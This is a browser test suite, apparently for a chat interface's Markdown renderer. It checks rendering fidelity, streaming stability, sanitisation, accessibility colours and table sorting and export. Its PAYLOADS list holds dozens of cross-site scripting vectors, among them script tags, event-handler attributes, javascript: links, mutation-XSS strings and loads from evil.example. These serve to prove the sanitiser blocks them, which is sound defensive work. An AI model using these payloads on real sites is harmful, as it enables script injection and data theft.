# ruff: noqa: E501, RUF001, SIM905 - the samples are as long and as odd as they have to be
"""Markdown in a real Chromium: what is shown, how it grows, and that no text can do anything."""

import re
from pathlib import Path

import pytest
from conftest import npm_install
from daily import at_night
from pages import expect, finished, new_chat, open_stream, say

pytestmark = pytest.mark.browser

SAMPLES = [
    "",
    "Hello",
    "One\ntwo  \nthree\\\nfour",
    "First paragraph.\n\nSecond\tparagraph.\r\n\r\nThird.",
    "# One\n## Two\n### Three ###\n#### Four\n##### Five\n###### Six\n####### Seven",
    "Setext one\n===\n\nSetext two\n---\n\ntext",
    "**bold** *em* ***both*** __bold__ _em_ ~~gone~~ **a *b* c** *a **b** c*",
    "snake_case_name, 2 * 3 * 4, 2*3*4, a*b, **not closed, _neither, ~this~ too",
    "`code` ``with ` tick`` ` spaced ` `a\nb` `<b>&amp;`",
    "\\*not em\\* \\# \\[x] \\` \\\\ \\<b\\>",
    "- one\n- two\n- three",
    "* a\n\n* b\n\n  more of b\n\n* c",
    "1. one\n2. two\n   1. inner\n   2. inner two\n      - deeper\n3. three",
    "5) five\n6) six\n\n0. zero",
    "- [ ] open\n- [x] done\n  - [X] *inner*\n- none",
    "- [ ] loose\n\n- [x] and done",
    "- item\n\n  ```js\n  let a = 1;\n  ```\n- next\n  > quoted\n- | a | b |\n  |---|---|\n  | 1 | 2 |",
    "- a\n  continued\nlazy\n\nafter",
    "+ plus\n- minus\n* star",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "| left | mid | right |\n|:--|:-:|--:|\n| `a|b` | **x** | [y](https://y.example) |\n| only one |\n| a | b | c | d |",
    "a | b\n--|--\n1 | 2\n\nafter",
    "| a \\| b | c |\n|---|---|\n| <br> | &lt; |",
    "text\n| a | b |\n|---|---|\n| 1 | 2 |\nlast",
    "| head |\n|------|",
    "```python\nprint('<b>')\n\n\nx = 1 & 2\n```",
    "```\nno language\n```\n\n~~~ruby extra words\nputs 1\n~~~",
    "````md\n```js\ninner\n```\n````",
    "```js\nnever closed\n\n- x",
    "```\n\n```\n\n```js\n```",
    "    indented code\n      more\n\n    after a gap\n\ntext",
    "``` not ` a fence\n\ntext ``` here",
    "> quote\n> goes on\nlazily\n>\n> > nested\n> - list\n> ```\n> code\n> ```",
    "> a\n\n> b",
    "---\n\n***\n\n___\n\n- - -",
    '[link](https://example.com) [titled](https://example.com/a?b=1&c=2 "A &quot;title&quot;") [](https://empty.example)',
    "[relative](/a/b) [here](#part) [query](?q=1) [page](page.html) [mail](mailto:a@b.example) [call](tel:+123)",
    "<https://auto.example/?a=1&amp;b=2> <me@mail.example> https://bare.example/x_y_z www.bare.example, me@bare.example.",
    "[ref][one] [one] [One][] [none] [text][nowhere]\n\n[one]: https://one.example 'Title'\n[two]: <https://two.example>",
    "[late]\n\npara\n\n[late]\n\n[late]: /late\n\n[late]",
    "[a **b** `c`](/x) [a [b] c](/y) [p](/a(b)c) [<](/z) [sp](<a b>)",
    '![alt](https://img.example/a.png "title") text ![](https://img.example/b.png)',
    "[![badge](https://img.example/badge.svg)](https://project.example)",
    "![ref]\n\n[ref]: https://img.example/c.png",
    "&amp; &lt; &gt; &quot; &nbsp;&copy; &hellip; &mdash; &#65; &#x42; &#0; &#xD800; &#1114112; &unknown; &amp &copy",
    "&lt;script&gt; \\&amp; `&amp;` **&amp;**",
    "a < b > c, x<y, 1<2>3 & d, <>, </, <3",
    "H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <b>b</b><i>i</i><u>u</u><s>s</s><mark>m</mark>",
    "a<br>b<br/>c<BR />d",
    "<b>bold *em*</b> and <i>**x**</i> </b> stray",
    "<div>not **ours**</div>\n\n<span>inline *em*</span> text",
    "<details><summary>More</summary>\n\nInside **it**\n\n- list\n\n</details>\n\nafter",
    "<!-- comment --> text\n\n<!-- block\n\ncomment -->\n\nafter",
    "<kbd>a &lt; b</kbd> <code>x *y*</code>",
    "<script>alert(1)</script>\n\n<style>*{}</style>\n\n<pre>\nx\n</pre>",
    "emoji 👩‍👩‍👧‍👦 🇩🇪 and اَلْعَرَبِيَّةُ and 中文**粗体**中文",
    "tabs\tin\ttext\n\n-\ttabbed item\n\n1.\tone",
    "a\n\n\n\n\nb\n   \nc",
    "Line ends with spaces   \nnext\n trailing ",
    "* * not a list\n*no space\n-no space\n1.no space\n#no space",
    "1. a\n\n   b\n\n2. c\n\ntext\n\n3. d",
    "***bold em** em* **bold *both***",
    "**Note:** text\n**Second:**\n- item **x**\n- item *y",
    "- **Key**: value with `code`\n- **Other**: [l](https://l.example) and ~~no~~\n\n> **Quote** end",
    "Term\n: definition?\n\n[^1] without its note",
    "a\u00a0b\u2028c \ufeff \u200b d",
    "It costs $5 and $10_000, *or $6*",
    "<a href='https://x.example'>html link</a> <img src=x> <input>",
    "&#60;b&#62; &#38;lt; &#38;amp;amp;",
]

# What the page makes of a text and what a browser makes of marked's own HTML, as lines that can be compared.
COMPARE = r"""
const { Marked } = await import("/oracle/marked.js");
const { loadMarkdown, MarkdownView } = await import("/static/agui/markdown/view.js");
await loadMarkdown(() => import("/static/agui/messages/reading.js"));
const { loadHtml, loadNames, loadShapes } = await import("/static/agui/markdown/nodes.js");
await Promise.all([loadHtml(), loadNames(), loadShapes()]);
const BARE = /^<\/?(?:br|b|i|u|s|em|strong|del|mark|kbd|sub|sup|details|summary)\s*\/?>$/i;
const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
const tamed = (html) => html.replaceAll(/<[^>]*>?|>/g, (tag) => (BARE.test(tag) ? tag : escaped(tag)));
const renderer = { checkbox: ({ checked }) => (checked ? "☑ " : "☐ "), html: ({ text }) => tamed(text) };
const reference = new Marked({ gfm: true, breaks: true, renderer });
const BLOCKS = "p|ul|ol|li|table|thead|tbody|tr|th|td|blockquote|h\\d|hr|br|pre|details|summary";
const AROUND_BLOCKS = new RegExp(` ?(</?(?:${BLOCKS})\\b[^>]*>) ?`, "g");
const make = () => {
  const view = new MarkdownView({ copy: "Copy", copied: "Copied" });
  document.body.append(view.element);
  return view;
};
function lines(root) {
  const text = walk(root, false).replace(/[ \n\t]+/g, " ").replace(AROUND_BLOCKS, "$1");
  return text.trim();
}
function walk(node, inLink) {
  if (node.nodeType === 3) return node.data.replaceAll("<", "‹").replaceAll(">", "›");
  if (node.nodeType !== 1) return "";
  const tag = node.localName;
  if (tag === "button" || node.className === "code-head") return "";
  if (tag === "pre") return `<pre>${node.firstChild.className} ${JSON.stringify(node.textContent.trimEnd()).replaceAll(" ", "·")}</pre>`;
  if (tag === "img") {
    const alt = node.alt || (inLink ? "" : node.getAttribute("src"));
    return inLink || !URL.canParse(node.src) ? alt : `<a ${node.src} ${node.title}>${alt}</a>`;
  }
  const inner = [...node.childNodes].map((child) => walk(child, inLink || tag === "a")).join("");
  if (tag === "div" || tag === "body") return inner;
  if (tag === "a") return `<a ${node.href} ${node.title}>${inner || node.getAttribute("href")}</a>`;
  return `<${tag} ${["align", "start"].map((name) => node.getAttribute(name)).join(" ")}>${inner}</${tag}>`;
}
const expected = (text) => lines(new DOMParser().parseFromString(reference.parse(text), "text/html").body);
function shown(text) {
  const view = make();
  view.update(text);
  view.element.remove();
  return lines(view.element);
}
function* growing(text, step) {
  const view = make();
  for (let end = step; end < text.length; end += step) {
    view.update(text.slice(0, end), true);
    yield view;
  }
  view.update(text);
  view.element.remove();
  yield view;
}
"""


@pytest.fixture
def lab(new_page, site, signed_in):
    """Run a script on the page: what it compares with has to be read as HTML, which the page's policy may refuse."""
    packages = npm_install(Path(__file__).parent / "element/package.json")
    if packages is None:
        pytest.skip("npm is not on the PATH")
    page = new_page(site.url, storage_state=signed_in, bypass_csp=True)
    page.route("**/oracle/marked.js", lambda route: route.fulfill(path=packages / "marked/lib/marked.esm.js"))
    return lambda script, argument=None: page.evaluate(
        f"async (argument) => {{ {COMPARE} {script} }}", argument if argument is not None else SAMPLES
    )


def test_elements_are_those_of_markeds_own_html(lab):
    found = lab("return argument.map((text) => [text, shown(text), expected(text)]);")
    assert [one for one in found if one[1] != one[2]] == []
    assert len(found) > 60
    # Every beginning of a text, too. Without raw HTML: there the browser repairs what is half open in its own way.
    found = lab(
        """return argument.flatMap((text) => [...text].map((_, at) => text.slice(0, at)))
            .map((text) => [text, shown(text), expected(text)]).filter(([, ours, theirs]) => ours !== theirs)""",
        [text for text in SAMPLES if "<" not in text],
    )
    assert found == []
    # A link is never within a link.
    nested = lab(
        """const view = make();
        return argument.filter((text) => { view.update(text); return view.element.querySelector("a a"); });""",
        [
            "![a [b](/c) d](/e)",
            "![![a](/b)](/c)",
            "[![a](/b)](/c)",
            "![[[foo](uri1)](uri2)](uri3)",
            "[a <https://b.example> c](/d)",
        ],
    )
    assert nested == []


CALM = [
    "A **bold** word, an *emphasised* one, ***both*** and `code` with ``a ` tick``, then ~~gone~~.",
    'See [the **manual**](https://example.com/a_(b) "Title") and [more](/x), or ![a picture](https://img.example/x.png).',
    "# Title\n\nText\n\n## Next one\n\n- **one**: `x`\n- two\n  - inner *em*\n- [ ] task\n\n1. first\n2. second\n\nEnd.",
    "Setext\n---\n\nAfter\n\n***\n\n> **quote** goes\n> on\n\nlast",
    "Before\n\n| Name | **Value** | Note |\n| --- | :-: | ---: |\n| `a` | **1** | [l](/l) |\n| b | 2 | *x* |\n\nAfter",
    "Run:\n\n```python\ndef f(x):\n    return x ** 2  # **no**\n```\n\nthen `f(2)`.\n\n~~~\n- raw\n~~~\nend",
    "1. Item\n\n   ```sh\n   ls -l\n   ```\n2. Next `y`\n   - sub **b**\n",
    "So **`x` is** and *`y`*.",
    "Fish &amp; chips &lt;3 AT&T H<sub>2</sub>O line<br>two \\*stars\\*",
    "The answer is 2*3 and snake_case and a < b, **x**y.",
    "With $x_1 * x_2$ and \\(\\frac{a}{b}\\) for $5-$10:\n\n$$\na\n- b\n\n+ c\n$$\n\nand **$2^n$**.",
]


def test_text_that_grows_is_as_if_at_once_and_does_not_jump_about(lab):
    found = lab(
        """return argument.flatMap((text) => [1, 2, 3, 7].map((step) => {
            let view;
            for (view of growing(text, step));
            const whole = make();
            whole.update(text);
            whole.element.remove();
            return view.element.isEqualNode(whole.element) ? [] : [[text, view.element.innerHTML, whole.element.innerHTML]];
        }).flat())"""
    )
    assert found == []
    # At every moment there is a beginning of what there will be in the end: no star, bracket or tick in between.
    found = lab(
        """return argument.flatMap((text) => {
            const seen = [];
            for (const { element } of growing(text, 1)) {
                const copy = element.cloneNode(true);
                for (const head of copy.querySelectorAll(".code-head")) head.remove();
                seen.push(copy.textContent.replace(/\\s+/g, ""));
            }
            return seen.filter((one) => !seen.at(-1).startsWith(one)).map((one) => [one, seen.at(-1)]);
        })""",
        CALM,
    )
    assert found == []
    # What stands is left alone while the rest grows.
    text = "\n\n".join(
        [
            "Intro **bold**.",
            "- one\n- two\n- three",
            "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |",
            "```js\nlet a;\nlet b;\n```",
            "End of it.",
        ]
    )
    replaced = lab(
        """const made = [], view = make();
        let removed = 0;
        const observer = new MutationObserver(() => {});
        observer.observe(view.element, { childList: true, subtree: true });
        for (let end = 1; end <= argument.length; end++) {
            view.update(argument.slice(0, end), true);
            for (const { removedNodes } of observer.takeRecords())
                for (const node of removedNodes) if (node.nodeType === 1) made.push([argument.slice(0, end).slice(-20), node.outerHTML]);
        }
        return made;""",
        text,
    )
    assert replaced == []


def test_what_a_reader_has_opened_stays_open_while_it_grows(lab):
    is_open = lab(
        """const view = make(), details = () => view.element.querySelector("details");
        view.update(argument.slice(0, argument.indexOf("Second")), true);
        details().open = true;
        view.update(argument, true);
        const whileGrowing = details().open;
        view.update(argument);
        return [whileGrowing, details().open];""",
        "<details><summary>More</summary>\n\nFirst part.\n\nSecond part.\n\n</details>\n\nAfter it.",
    )
    assert is_open == [True, True]


PAYLOADS = [
    # Elements that run, load or send
    "<script>window.pwned = 1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<img src=https://evil.example/a.png srcset=https://evil.example/b.png>",
    "<svg onload='window.pwned=1'><animate onbegin='window.pwned=1'></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#a'></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><foreignObject><iframe src=javascript:window.pwned=1></foreignObject></svg>",
    "<math><a href='javascript:window.pwned=1'>x</a></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    "<object data=javascript:window.pwned=1></object><embed src=https://evil.example/x.swf>",
    "<video autoplay onplay=window.pwned=1 src=https://evil.example/v></video><audio src=https://evil.example/a>",
    "<form action='https://evil.example'><input name=q autofocus onfocus=window.pwned=1><button>go</button></form>",
    "<button formaction=javascript:window.pwned=1>x</button><isindex action=javascript:window.pwned=1>",
    "<style>* { background: url(https://evil.example) }</style><p style='background:url(https://evil.example)'>x</p>",
    "<link rel=stylesheet href=https://evil.example><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<template><img src=x onerror=window.pwned=1></template><slot onslotchange=window.pwned=1></slot>",
    "<marquee onstart=window.pwned=1>x</marquee><body onload=window.pwned=1>",
    "<dialog open onclose=window.pwned=1>x</dialog><div popover id=p onbeforetoggle=window.pwned=1>",
    "<x-element onclick=window.pwned=1 is=agui-chat></x-element><agui-chat endpoint=https://evil.example></agui-chat>",
    # Attributes on what is allowed
    "<details open ontoggle='window.pwned=1'>x</details>",
    "<details\nopen\nontoggle=window.pwned=1><summary>x</summary></details>",
    "<b onmouseover=window.pwned=1>x</b><b/onclick=window.pwned=1>y</b>",
    "<b\tonclick=window.pwned=1>x</b><br onclick=window.pwned=1><kbd style=position:fixed>",
    "<a href='https://ok.example' target='_self' onclick='window.pwned=1' id='x' class='send'>x</a>",
    "<mark class=send id=agui-chat name=cookie>x</mark><sub tabindex=1 accesskey=x>",
    # Mutation: what one parser reads otherwise than another
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<svg></p><style><a id='</style><img src=x onerror=window.pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.pwned=1 src>'>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<!-- --!><img src=x onerror=window.pwned=1> -->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml <img src=x onerror=window.pwned=1> ?>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=window.pwned=1>'>]>&x;",
    "<title><a title='</title><img src=x onerror=window.pwned=1>'></title>",
    "<textarea></textarea><img src=x onerror=window.pwned=1></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=window.pwned=1>'>",
    "<<b>script>window.pwned=1<</b>/script>",
    "<b><details><kbd>" * 50 + "x",
    # Links
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](<java\tscript:window.pwned=1>)",
    "[click](<\u0001javascript:window.pwned=1>) [click](<\u00a0javascript:window.pwned=1>)",
    "[click](&#106;avascript:window.pwned=1) [x](&#x6A;avascript&colon;window.pwned=1)",
    "[click](java&Tab;script:window.pwned=1) [x](java&NewLine;script:window.pwned=1) [x](java&#10;script:window.pwned=1)",
    "[click](javascript&#58;window.pwned=1) [x](&#1;javascript:window.pwned=1)",
    "[click](%6aavascript:window.pwned=1) [x](javascript%3Awindow.pwned=1)",
    "[click](javascript://%0awindow.pwned=1) [x](javascript:%20window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x) [x](file:///etc/passwd) [x](blob:https://evil.example/1) [x](view-source:https://a.example)",
    "[x](vbscript:x) <a href='&#106;avascript:window.pwned=1'>x</a>",
    "<javascript:window.pwned=1> <JAVASCRIPT:window.pwned=1> <data:text/html,x>",
    "[ref]\n\n[ref]: javascript:window.pwned=1",
    "[ref][a]\n\n[a]: <java&#115;cript:window.pwned=1> 'title\" onclick=window.pwned=1'",
    "[x](https://ok.example \"' onmouseover=window.pwned=1 x='\") [y](https://ok.example '\"><img src=x onerror=window.pwned=1>')",
    "[x](https://ok.example\"onmouseover=window.pwned=1) [y](<https://ok.example'><img src=x onerror=window.pwned=1>)",
    "[<img src=x onerror=window.pwned=1>](https://ok.example)",
    "[a](https://ok.example/[b](javascript:window.pwned=1))",
    "[\u202ecilbup](https://ok.example) [x](http://ok.example\u2028javascript:window.pwned=1) [x](java\u200bscript:window.pwned=1)",
    "[x](ｊavascript:window.pwned=1) [x](javascript\uff1awindow.pwned=1)",
    # Images
    "![x](https://evil.example/leak?q=1)",
    "![x](javascript:window.pwned=1) ![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
    '![" onerror="window.pwned=1](https://evil.example/x.png "\\" onload=window.pwned=1")',
    "[![x](https://evil.example/a.png)](javascript:window.pwned=1)",
    "![a][i]\n\n[i]: https://evil.example/ref.png",
    # Formulas
    "$\\href{javascript:window.pwned=1}{x}$ $\\class{send}{x}$ \\(\\unicode{<img src=x onerror=window.pwned=1>}\\)",
    "$$\\text{<img src=x onerror=window.pwned=1>}$$ $<script>window.pwned=1</script>$ \\[\\html{<b>}\\]",
    "$$\n" + "{" * 3000 + "x" + "}" * 3000 + "\n$$",
    # Code, tables, entities, names
    "```html\n<img src=x onerror='window.pwned=1'>\n```",
    '```"><img/src=x/onerror=window.pwned=1>\nx\n```',
    "```js onload=window.pwned=1 class=send\nx\n```\n\n```&quot;onload=x\nx\n```",
    "`<img src=x onerror=window.pwned=1>` ``</code><img src=x onerror=window.pwned=1>``",
    "| <img src=x onerror=window.pwned=1> | [x](javascript:window.pwned=1) |\n|:-|-:|\n| <b onclick=window.pwned=1> | ![](https://evil.example/t) |",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "1000000000. <img src=x onerror=window.pwned=1>\n\n- [<b>] x\n- [ ] <svg onload=window.pwned=1>",
    "[toString] [__proto__] [constructor]\n\n[__proto__]: javascript:window.pwned=1\n[constructor]: x",
    "&constructor; &__proto__; &toString; &hasOwnProperty;",
    ">" * 3000 + " deep",
    "[" * 3000 + "x",
    "*" * 3000 + "x" + "*" * 3000,
    "\x00<\x00script>window.pwned=1</script>\ufffe\ud800",
]
ALLOWED_TAGS = (
    "div p a details summary code pre span button table thead tbody tr th td br ul ol li h1 h2 h3 hr blockquote em strong "
    "del b i u s mark kbd sub sup"
).split()
ALLOWED_ATTRIBUTES = "class dir part href title target rel type tabindex align start".split()


def test_no_text_can_do_anything(chat, site):
    requests: list[str] = []
    chat.on("request", lambda request: requests.append(request.url))
    chat.evaluate(
        """async () => {
            const { loadMarkdown, MarkdownView } = await import("/static/agui/markdown/view.js");
            await loadMarkdown(() => import("/static/agui/messages/reading.js"));
            const { loadHtml, loadNames, loadShapes } = await import("/static/agui/markdown/nodes.js");
            await Promise.all([loadHtml(), loadNames(), loadShapes()]);
            window.MarkdownView = MarkdownView;
        }"""
    )
    requests.clear()
    found = chat.evaluate(
        """async (payloads) => payloads.map((text) => {
            const view = new MarkdownView({ copy: "Copy", copied: "Copied" });
            document.body.append(view.element);
            const seen = { tags: new Set(), attributes: new Set(), classes: new Set(), links: new Set() };
            const step = Math.max(1, text.length >> 5);
            for (let end = step; end < text.length + step; end += step) {
                view.update(text.slice(0, end), end < text.length);
                for (const element of view.element.querySelectorAll("*")) {
                    seen.tags.add(element.localName);
                    for (const name of element.getAttributeNames()) seen.attributes.add(name);
                    seen.classes.add(element.className);
                    if (element.localName === "a") seen.links.add(`${element.protocol} ${element.target} ${element.rel}`);
                }
            }
            const plain = view.element.matches(".plain");
            view.element.remove();
            return { plain, ...Object.fromEntries(Object.entries(seen).map(([key, all]) => [key, [...all]])) };
        })""",
        PAYLOADS,
    )
    # Requests have an order: those of the text come before this one.
    with chat.expect_request("**/last"):
        chat.evaluate("() => void fetch('/last')")
    for payload, one in zip(PAYLOADS, found, strict=True):
        assert not one["plain"], payload
        assert set(one["tags"]) <= set(ALLOWED_TAGS), payload
        assert set(one["attributes"]) <= set(ALLOWED_ATTRIBUTES), payload
        classes = {name for name in one["classes"] if not re.fullmatch(r"language-[\w+#.-]+", name)}
        ours = {"", "block", "block plain", "code", "code-head", "copy", "figure", "table", "task"}
        assert classes <= {*ours, "math", "math block-math"}, payload
        for link in one["links"]:
            assert re.fullmatch(r"(https?|mailto|tel): _blank noopener noreferrer", link), payload
    assert len(PAYLOADS) > 60
    # The modules for code and the like are the page's own.
    assert [one for one in requests if "/static/agui/" not in one] == [f"{site.url}/last"]
    assert chat.evaluate("window.pwned") is None
    assert chat.url.startswith(site.url)


def test_rare_names_are_loaded_when_a_text_has_one_and_a_text_is_plain_without_what_reads_markdown(dev_chat):
    names = []
    dev_chat.on("request", lambda request: names.append(request.url) if "entities" in request.url else None)
    say(dev_chat, "say &amp; and &lt;")
    finished(dev_chat)
    assert names == []
    dev_chat.evaluate(
        """async () => {
            const { MarkdownView } = await import("/static/agui/markdown/view.js");
            const view = new MarkdownView({ copy: "Copy", copied: "Copied", copyFailed: "No" });
            view.element.id = "names";
            document.body.append(view.element);
            view.update("Gr&uuml;&szlig;e &rarr; &nosuchname; `&uuml;`", true);
        }"""
    )
    expect(dev_chat.locator("#names")).to_have_text("Grüße → &nosuchname; &uuml;")
    assert len(names) == 1
    dev_chat.route("**/markdown/nodes*.js*", lambda route: route.abort())
    dev_chat.reload()
    say(dev_chat, "list tasks")
    finished(dev_chat)
    expect(dev_chat.locator(".prose.plain").first).to_contain_text("`list_tasks`")
    expect(dev_chat.locator(".prose code")).to_have_count(0)


SHOW = """async (text) => {
    const { loadMarkdown, MarkdownView } = await import("/static/agui/markdown/view.js");
    await loadMarkdown(() => import("/static/agui/messages/reading.js"));
    const view = new MarkdownView({ copy: "Copy", copied: "Copied" });
    view.element.classList.add("shown");
    document.body.append(view.element);
    view.update(text);
}"""


def test_shapes_are_loaded_with_the_first_text_that_has_their_signs(dev_chat):
    names = []
    dev_chat.on("request", lambda request: names.append(request.url) if "markdown/shapes.js" in request.url else None)
    strong = dev_chat.locator(".prose strong")
    push = open_stream(dev_chat)
    push({"type": "TEXT_MESSAGE_START", "messageId": "m", "role": "assistant"})
    push({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m", "delta": "“**plain**” — it’s <b>bold</b> 👍🏽\n\n"})
    expect(strong).to_have_text("plain")
    assert names == []
    # A growing text is read again when they have come, and so is the part of it that was finished.
    for delta in ("**今天。**很好\n\n", "Next $x_1$ and **明天。**也"):
        push({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m", "delta": delta})
    expect(strong).to_have_text(["plain", "今天。", "明天。"])
    expect(dev_chat.locator(".prose math")).to_have_count(1)
    assert len(names) == 1
    # An answer that fails before its end shows no half marks, and loses no words.
    push({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m", "delta": "是 **很 [长](http://e"})
    push({"type": "RUN_ERROR", "message": "It broke.", "code": "model_error"})
    finished(dev_chat)
    expect(dev_chat.locator(".prose p").last).to_have_text(re.compile(r"是 \*\*很 \[长\]\(http://e$"))
    # Without them a text is as CommonMark reads it, and the next text tries again.
    dev_chat.route("**/markdown/shapes.js*", lambda route: route.abort())
    dev_chat.reload()
    with dev_chat.expect_event("requestfailed"):
        dev_chat.evaluate(SHOW, "# 明天\n\n**后天。**呢")
    shown = dev_chat.locator(".shown")
    expect(shown.locator("h1")).to_have_text("明天")
    expect(shown.locator("p")).to_have_text("**后天。**呢")
    dev_chat.unroute("**/markdown/shapes.js*")
    dev_chat.evaluate(SHOW, "**好的。**呢")
    expect(shown.last.locator("strong")).to_have_text("好的。")


CODE = '```python\n@route("/a")\ndef f(x):  # about it\n    return "text" + str(1)' + " + x" * 60 + "\n```"


def luminance(rgb: list[float]) -> float:
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in (one / 255 for one in rgb)]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: list[float], other: list[float]) -> float:
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def show_answer(page, text: str) -> None:
    """Let the agent have said this."""
    push = open_stream(page)
    push({"type": "TEXT_MESSAGE_START", "messageId": "m", "role": "assistant"})
    push({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m", "delta": text})
    push({"type": "TEXT_MESSAGE_END", "messageId": "m"}, {"type": "RUN_FINISHED", "threadId": "t", "runId": "r"})
    finished(page)


@pytest.mark.nightly
def test_code_in_forced_colours_has_those_of_the_system(new_page, site, signed_in):
    """Words of a language and what a change removes then differ by their shape."""
    page = new_page(site.url, storage_state=signed_in, forced_colors="active")
    show_answer(page, CODE + "\n\n```diff\n-old\n+new\n```")
    expect(page.locator(".code .removed")).to_be_visible()
    expect(page.locator(".code .keyword").first).to_be_visible()
    looks = page.locator(".code code").evaluate_all("""codes => {
        const system = document.body.appendChild(document.createElement("p"));
        system.style = "background: Canvas; color: CanvasText; forced-color-adjust: none";
        const own = ({ color, forcedColorAdjust }) => `${color} ${forcedColorAdjust}`;
        const { backgroundColor, color } = getComputedStyle(system);
        const all = codes.flatMap((code) => [code, ...code.children]).map((one) => own(getComputedStyle(one)));
        const behind = getComputedStyle(codes[0].closest(".panel")).backgroundColor;
        return { all: [...new Set(all)], behind, expected: `${color} auto`, canvas: backgroundColor };
    }""")
    assert looks["all"] == [looks["expected"]]
    assert looks["behind"] == looks["canvas"]
    assert page.locator(".code .keyword").first.evaluate("one => getComputedStyle(one).fontWeight") == "700"
    assert page.locator(".code .removed").evaluate("one => getComputedStyle(one).textDecorationLine") == "line-through"


ROWS = ["**b** | $1,200.00", "**a** | $90.00", "**=1+1** | -$3", "**d** |", "**c** | $5.50"] + [
    f"**{name}** | $7{number}" for number, name in enumerate("efghi")
]
PRICES = "| Item | Price |\n|---|---:|\n" + "".join(f"| {row} |\n" for row in ROWS)


def test_a_large_table_is_sorted_and_saved_and_giant_code_is_shown_at_once(chat):
    show_answer(chat, PRICES)
    price = chat.get_by_role("button", name="Price")
    names = chat.locator(".prose tbody tr strong")
    price.focus()
    price.press("Enter")
    expect(names).to_have_text(["=1+1", "c", *"efghi", "a", "b", "d"])
    expect(chat.get_by_role("columnheader", name="Price")).to_have_attribute("aria-sort", "ascending")
    price.press("Enter")
    expect(names).to_have_text(["b", "a", *"ihgfe", "c", "=1+1", "d"])
    with chat.expect_download() as download:
        chat.get_by_role("button", name="Download as CSV").click()
    assert download.value.suggested_filename == "table.csv"
    rows = download.value.path().read_text("utf-8-sig").splitlines()
    others = [f"{name},$7{number}" for number, name in enumerate("efghi")]
    assert rows == ["Item,Price", 'b,"$1,200.00"', "a,$90.00", *reversed(others), "c,$5.50", "'=1+1,'-$3", "d,"]
    # A small table is left as it is.
    new_chat(chat)
    show_answer(chat, "| a | b |\n|---|---|\n| 1 | 2 |")
    expect(chat.locator(".prose td").first).to_have_text("1")
    assert chat.locator(".prose .sort").count() == 0
    # Code that is not wide has no button to wrap it.
    new_chat(chat)
    show_answer(chat, "```js\nlet a = 1;\n```\n\n```\nno language\n```")
    expect(chat.locator(".code .number")).to_have_text("1")
    expect(chat.get_by_role("button", name="Wrap lines")).to_have_count(0)
    # Of hostile code too much would be elements: the rest stays plain.
    new_chat(chat)
    show_answer(chat, "```js\n" + "1 a( " * 13_000 + "\n```")
    expect(chat.locator(".code .number").first).to_be_attached()
    assert chat.locator(".code code > *").count() == 5000


FORMULAS = r"""The roots $x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}$ cost $5 or $10, not \(\foo{y}\).

$$
\sum_{k=1}^n k = \frac{n(n+1)}{2}
- 0
$$
"""
WIDE = r"\[ " + " + ".join(f"x_{{{number}}}" for number in range(60)) + r" \]"


@pytest.mark.parametrize("scheme", ["dark", *at_night("light")])
def test_code_and_formulas_have_colours_that_can_be_read(new_page, site, signed_in, scheme: str):
    page = new_page(site.url, storage_state=signed_in, color_scheme=scheme)
    show_answer(page, CODE)
    code = page.locator(".code code")
    expect(code.locator(".keyword", has_text="return")).to_be_visible()
    colours = code.evaluate("""code => {
        const number = (colour) => colour.match(/[\\d.]+/g).slice(0, 3).map(Number);
        const background = getComputedStyle(code.closest(".panel")).backgroundColor;
        return [background, ...[...code.children].map((one) => getComputedStyle(one).color)].map(number);
    }""")
    assert len({tuple(one) for one in colours[1:]}) == 5
    assert min(contrast(colours[0], one) for one in colours[1:]) >= 4.5
    assert code.evaluate("code => code.textContent") == CODE.split("\n", 1)[1].removesuffix("\n```")
    wrap = page.get_by_role("button", name="Wrap lines")
    wrap.focus()
    wrap.press("Enter")
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert page.locator(".code pre").evaluate("pre => pre.scrollWidth <= pre.clientWidth")
    wrap.press("Enter")
    assert page.locator(".code pre").evaluate("pre => pre.scrollWidth > pre.clientWidth")
    # Formulas are drawn with their source, and prices stay.
    new_chat(page)
    show_answer(page, FORMULAS)
    formulas = page.locator(".prose math")
    expect(formulas).to_have_count(2)
    inline, block = formulas.all()
    assert "cost $5 or $10, not" in page.locator(".prose").inner_text()
    expect(inline.locator("mfrac msqrt")).to_be_visible()
    expect(inline.locator("annotation[encoding='application/x-tex']")).to_have_text(re.compile(r"^x_\{1,2\} = .*2a\}$"))
    expect(block).to_have_attribute("display", "block")
